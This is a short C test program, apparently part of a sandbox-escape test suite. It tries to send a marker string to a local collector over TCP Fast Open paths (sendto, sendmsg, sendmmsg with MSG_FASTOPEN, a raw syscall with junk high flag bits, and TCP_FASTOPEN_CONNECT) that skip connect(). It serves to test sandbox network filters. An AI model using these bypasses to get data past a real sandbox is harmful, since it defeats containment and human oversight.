// Connects and sends in one call, which no connect names: MSG_FASTOPEN, TCP_FASTOPEN_CONNECT.
// class: OS sandboxes: MSG_FASTOPEN
// plain: message
#include "net.h"

static void finish(int fd, const char* how, ssize_t sent) {
  char answer[256];
  if (sent < 0) refused(how);
  shutdown(fd, SHUT_WR);
  const ssize_t n = read(fd, answer, sizeof answer);
  if (n > 0) leak(answer, (size_t)n);
  close(fd);
}

int main(int argc, char** argv) {
  (void)argc;
  attack(argv);
  struct sockaddr_in a = at_v4("127.0.0.1", number("COLLECTOR"));
  char* word = (char*)text("message %s", fact("MARK"));
  const size_t n = strlen(word);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  finish(fd, "sendto", sendto(fd, word, n, MSG_FASTOPEN, (struct sockaddr*)&a, sizeof a));
  fd = socket(AF_INET, SOCK_STREAM, 0);
  struct iovec part = {word, n};
  struct mmsghdr message = {.msg_hdr = {.msg_name = &a, .msg_namelen = sizeof a, .msg_iov = &part, .msg_iovlen = 1}};
  finish(fd, "sendmsg", sendmsg(fd, &message.msg_hdr, MSG_FASTOPEN));
  fd = socket(AF_INET, SOCK_STREAM, 0);
  finish(fd, "sendmmsg", sendmmsg(fd, &message, 1, MSG_FASTOPEN | MSG_NOSIGNAL));
  fd = socket(AF_INET, SOCK_STREAM, 0);
  finish(fd, "high bits", syscall(SYS_sendto, fd, word, n, 0xdead00000000UL | MSG_FASTOPEN, &a, sizeof a));
  fd = socket(AF_INET, SOCK_STREAM, 0);
  const int on = 1;
  if (setsockopt(fd, IPPROTO_TCP, TCP_FASTOPEN_CONNECT, &on, sizeof on) != 0) refused("TCP_FASTOPEN_CONNECT");
  if (connect(fd, (struct sockaddr*)&a, sizeof a) != 0) refused("connect");
  finish(fd, "TCP_FASTOPEN_CONNECT", send(fd, word, n, MSG_NOSIGNAL));
  return 0;
}
